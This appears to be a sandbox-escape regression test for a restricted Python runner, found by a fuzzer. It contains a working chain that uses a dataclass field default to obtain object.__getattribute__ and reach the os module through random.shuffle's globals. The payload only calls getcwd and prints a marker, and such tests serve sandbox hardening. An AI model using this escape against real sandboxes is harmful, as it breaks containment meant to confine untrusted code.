# A field's default is getattr(cls, name): make_dataclass with a field named __getattribute__
# (init=False: no generated code) hands over object.__getattribute__, an attribute reader by
# string. Found by fuzz_guard.
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "105_dataclass_default_getattribute"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import dataclasses
import random

X = dataclasses.make_dataclass("X", [("__getattribute__", int)], init=False, repr=False,
                               eq=False)
read = dataclasses.fields(X)[0].default
module_globals = read(read(random.shuffle, "__func__"), "__globals__")
won(module_globals["_os"].getcwd())
